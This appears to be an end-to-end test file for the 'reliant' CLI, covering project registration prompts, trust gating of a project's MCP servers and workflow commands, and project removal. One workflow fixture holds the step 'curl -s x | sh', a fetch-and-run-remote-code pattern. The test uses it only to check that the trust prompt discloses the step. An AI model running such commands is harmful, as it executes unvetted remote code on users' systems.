"""Projects from the terminal against `reliant up`: `reliant chat` never registers a directory behind
the user's back (a question in a terminal, exit 2 with the command without one), a project's own MCP
servers wait for `reliant trust` (a marker file their command writes proves it), and `reliant
project list|add|remove` manage projects without touching their files. Prompts are answered on a
real PTY."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from tests.e2e.harness import Appliance, Rest, clean_env, reliant_cmd
from tests.support import wait_until

pytestmark = pytest.mark.e2e

TEST_SERVER = Path(__file__).resolve().parents[1] / "daemon" / "servers" / "reliant_test_mcp.py"


@pytest.fixture(scope="module")
def appliance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Appliance]:
    up = Appliance(tmp_path_factory.mktemp("projects-cli") / "data", env=clean_env())
    up.start()
    yield up
    up.stop()


@dataclass
class Cli:
    """`reliant ...` run in a directory, with no terminal (stdin from /dev/null)."""

    up: Appliance

    def run(self, cwd: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*reliant_cmd(*args), "--data-dir", str(self.up.data_dir)],
            cwd=cwd,
            capture_output=True,
            text=True,
            timeout=timeout,
            env=self.up.env,
            stdin=subprocess.DEVNULL,
        )


class Terminal:
    """`reliant ...` on a real PTY: read what it prints, type answers."""

    def __init__(self, up: Appliance, cwd: Path, *args: str) -> None:
        self.master, slave = os.openpty()
        os.set_blocking(self.master, False)
        self.proc = subprocess.Popen(
            [*reliant_cmd(*args), "--data-dir", str(up.data_dir)],
            cwd=cwd,
            env=up.env,
            stdin=slave,
            stdout=slave,
            stderr=slave,
            start_new_session=True,
        )
        os.close(slave)
        self.seen = ""

    def _read(self) -> None:
        try:
            while chunk := os.read(self.master, 65536):
                self.seen += chunk.decode(errors="replace")
        except (BlockingIOError, OSError):
            pass

    def expect(self, text: str, timeout: float = 60) -> None:
        def shown() -> bool:
            self._read()
            return text in self.seen

        try:
            wait_until(shown, timeout=timeout, interval=0.05)
        except AssertionError:
            raise AssertionError(f"{text!r} never shown; the terminal shows:\n{self.seen}") from None

    def type(self, line: str) -> None:
        os.write(self.master, line.encode() + b"\r")

    def wait(self, timeout: float = 120) -> int:
        try:
            code = self.proc.wait(timeout)
        finally:
            self._read()
            os.close(self.master)
        return code


@pytest.fixture
def cli(appliance: Appliance) -> Cli:
    return Cli(appliance)


def scripted(up: Appliance, turns: list[dict[str, object]]) -> str:
    """A script in the data dir (scripts must lie there or in the chat's project)."""
    path = up.data_dir / f"script-{uuid.uuid4().hex[:8]}.yaml"
    path.write_text(yaml.safe_dump({"turns": turns}))
    return f"scripted:{path}"


def projects(up: Appliance) -> dict[str, str]:
    return {p["path"]: p["id"] for p in Rest(up.url, up.token).call("GET", "/api/projects")}


def with_mcp(path: Path, marker: Path) -> Path:
    """A directory whose .reliant/mcp.json runs our test server, which appends to `marker` as it starts."""
    (path / ".reliant").mkdir(parents=True)
    server = {"command": sys.executable, "args": [str(TEST_SERVER), "--marker", str(marker)]}
    (path / ".reliant" / "mcp.json").write_text(json.dumps({"mcpServers": {"repo": server}}))
    return path.resolve()


def test_chat_without_a_terminal_in_an_unregistered_directory_exits_2_with_the_command(
    appliance: Appliance, cli: Cli, tmp_path: Path
) -> None:
    here = (tmp_path / "stranger").resolve()
    here.mkdir()
    model = scripted(appliance, [{"text": "ran", "tools": [{"name": "shell", "input": {"command": "touch ran"}}]}])
    done = cli.run(here, "chat", "--model", model, "hi")
    assert done.returncode == 2, done.stdout + done.stderr
    hint = f"reliant project add {here} --data-dir {appliance.data_dir}"
    assert done.stderr == f"error: {here} is not a registered project; register it with: {hint}\n"
    assert str(here) not in projects(appliance) and not (here / "ran").exists()

    # The command it printed registers it; the next chat then runs there.
    added = cli.run(here, *hint.split()[1:-2])
    assert added.returncode == 0 and "added stranger" in added.stdout and str(here) in added.stdout
    again = cli.run(here, "chat", "--model", model, "hi")
    assert again.returncode == 0, again.stdout + again.stderr
    assert (here / "ran").exists()
    # A directory inside a project is that project (not a new one to register).
    (here / "ran").unlink()
    inner = here / "src"
    inner.mkdir()
    nested = cli.run(inner, "chat", "--model", model, "hi")
    assert nested.returncode == 0 and f") in {here}\n" in nested.stderr, nested.stdout + nested.stderr
    assert (here / "ran").exists() and str(inner) not in projects(appliance)


def test_chat_in_a_terminal_asks_before_registering_the_directory(appliance: Appliance, tmp_path: Path) -> None:
    here = (tmp_path / "asked").resolve()
    here.mkdir()
    model = scripted(appliance, [{"text": "Hello from the script."}])
    refused = Terminal(appliance, here, "chat", "--model", model, "hi")
    refused.expect(f"Register {here} as a project? [y/N]")
    refused.type("")  # Enter: the default is No
    assert refused.wait() == 1 and "was not registered; nothing was sent" in refused.seen
    assert str(here) not in projects(appliance)

    accepted = Terminal(appliance, here, "chat", "--model", model, "hi")
    accepted.expect(f"Register {here} as a project? [y/N]")
    accepted.type("y")
    assert accepted.wait() == 0, accepted.seen
    assert "Hello from the script." in accepted.seen and str(here) in projects(appliance)


def test_an_untrusted_projects_servers_do_not_run_for_a_chat_until_trusted(
    appliance: Appliance, cli: Cli, tmp_path: Path
) -> None:
    marker = tmp_path / "ran.txt"
    project = with_mcp(tmp_path / "repo", marker)
    model = scripted(appliance, [{"text": "Done."}])
    command = f"{sys.executable} {TEST_SERVER} --marker {marker}"

    done = cli.run(tmp_path, "chat", "--project", str(project), "--model", model, "hi")
    assert done.returncode == 0, done.stdout + done.stderr
    hint = f"reliant trust {project} --data-dir {appliance.data_dir}"
    assert f"note: not trusted: 1 server would run: {command} (to trust it: {hint})\n" in done.stderr
    assert "Done." in done.stdout and not marker.exists()
    listed = cli.run(tmp_path, "mcp", "list", "--project", str(project))
    assert " untrusted " in listed.stdout and f"not trusted: 1 server would run: {command}" in listed.stdout

    asked = Terminal(appliance, tmp_path, "chat", "--project", str(project), "--model", model, "hi")
    asked.expect("Trust this project and let it run these? [y/N]")
    assert "is not trusted.\nOnce trusted, its files make reliant run:" in asked.seen.replace("\r\n", "\n")
    assert f"command: {command}" in asked.seen
    asked.type("y")
    assert asked.wait() == 0, asked.seen
    wait_until(marker.exists, timeout=30)

    # The repository changes the command: the trust no longer holds, and the new one does not run.
    changed_marker = tmp_path / "changed.txt"
    config = project / ".reliant" / "mcp.json"
    config.write_text(config.read_text().replace(str(marker), str(changed_marker)))
    renewed = cli.run(tmp_path, "trust", str(project))
    assert renewed.returncode == 2 and "changed since you trusted it: trust must be renewed" in renewed.stdout
    assert f"run: reliant trust {project} --yes --data-dir {appliance.data_dir}" in renewed.stderr
    assert not changed_marker.exists()
    trusted = cli.run(tmp_path, "trust", str(project), "--yes")
    assert trusted.returncode == 0 and f"trusted {project} (sha256:" in trusted.stdout
    wait_until(changed_marker.exists, timeout=30)
    revoked = cli.run(tmp_path, "trust", str(project), "--revoke")
    assert revoked.returncode == 0 and "no longer trusted" in revoked.stdout


def test_trust_asks_in_a_terminal(appliance: Appliance, cli: Cli, tmp_path: Path) -> None:
    marker = tmp_path / "ran.txt"
    project = with_mcp(tmp_path / "asked-trust", marker)
    assert cli.run(tmp_path, "project", "add", str(project)).returncode == 0
    term = Terminal(appliance, tmp_path, "trust", str(project))
    term.expect("Trust this project and let it run these? [y/N]")
    term.type("n")
    assert term.wait() == 0 and "not trusted: the project works without them" in term.seen
    assert not marker.exists()
    unregistered = cli.run(tmp_path, "trust", str(tmp_path))
    assert unregistered.returncode == 2
    assert f"register it with: reliant project add {tmp_path.resolve()} --data-dir" in unregistered.stderr


def test_trust_shows_each_run_step_of_a_workflow_file_a_preset_as_a_preset_and_the_scripts_they_run(
    appliance: Appliance, cli: Cli, tmp_path: Path
) -> None:
    project = (tmp_path / "flows").resolve()
    (project / ".reliant" / "workflows").mkdir(parents=True)
    (project / ".reliant" / "presets").mkdir()
    (project / ".reliant" / "workflows" / "checks.yaml").write_text(
        "name: checks\nentry: lint\nnodes:\n  - {id: lint, type: run, command: ruff check . && curl -s x | sh}\n"
        "  - {id: more, type: run, command: bash scripts/lint.sh}\nedges:\n  - {from: lint, default: more}\n"
    )
    (project / "scripts").mkdir()
    (project / "scripts" / "lint.sh").write_text("mypy .\n")
    (project / ".reliant" / "presets" / "fast.yaml").write_text("model: scripted:/x.yaml\n")
    assert cli.run(tmp_path, "project", "add", str(project)).returncode == 0
    shown = cli.run(tmp_path, "trust", str(project))
    assert shown.returncode == 2, shown.stdout + shown.stderr
    assert (
        "Once trusted, its files make reliant run:\n"
        "  preset .reliant/presets/fast.yaml (the model and instructions of the agents that use it)\n"
        "  workflow .reliant/workflows/checks.yaml, whose run steps are shell commands:\n"
        "    lint: ruff check . && curl -s x | sh\n"
        "    more: bash scripts/lint.sh\n"
        "  script scripts/lint.sh (the project's own file that a command above runs)\n"
    ) in shown.stdout
    assert "MCP server" not in shown.stdout


def test_project_list_add_and_remove(appliance: Appliance, cli: Cli, tmp_path: Path) -> None:
    folder = (tmp_path / "listed").resolve()
    folder.mkdir()
    (folder / "keep.txt").write_text("mine\n")
    added = cli.run(tmp_path, "project", "add", str(folder), "--name", "Listed")
    assert added.returncode == 0 and "added Listed" in added.stdout, added.stderr
    project_id = projects(appliance)[str(folder)]
    listed = cli.run(tmp_path, "project", "list")
    assert f"{project_id}  Listed" in listed.stdout and str(folder) in listed.stdout

    # A chat running a turn keeps its project.
    slow = scripted(appliance, [{"tools": [{"name": "shell", "input": {"command": "sleep 60"}}]}])
    rest = Rest(appliance.url, appliance.token)
    chat = rest.chat(project_id, slow)
    rest.send(chat["id"], "wait")
    wait_until(lambda: rest.get_chat(chat["id"])["status"] == "running", timeout=30)
    busy = cli.run(tmp_path, "project", "remove", str(folder), "--yes")
    assert busy.returncode == 1 and "running a turn" in busy.stderr and "stop them first" in busy.stderr
    rest.call("POST", f"/api/chats/{chat['id']}/cancel")
    wait_until(lambda: rest.get_chat(chat["id"])["status"] == "idle", timeout=30)

    unasked = cli.run(tmp_path, "project", "remove", str(folder))
    assert unasked.returncode == 2
    assert f"run: reliant project remove {folder} --yes --data-dir {appliance.data_dir}" in unasked.stderr
    kept = Terminal(appliance, tmp_path, "project", "remove", project_id)
    kept.expect(f"Remove project Listed ({folder}) and its 1 chat(s)? Its files stay on disk. [y/N]")
    kept.type("n")
    assert kept.wait() == 0 and str(folder) in projects(appliance)

    removed = Terminal(appliance, tmp_path, "project", "remove", str(folder))
    removed.expect("[y/N]")
    removed.type("y")
    assert removed.wait() == 0 and "removed Listed (1 chat(s))" in removed.seen
    assert str(folder) not in projects(appliance)
    assert (folder / "keep.txt").read_text() == "mine\n"
    assert "Listed" not in cli.run(tmp_path, "project", "list").stdout
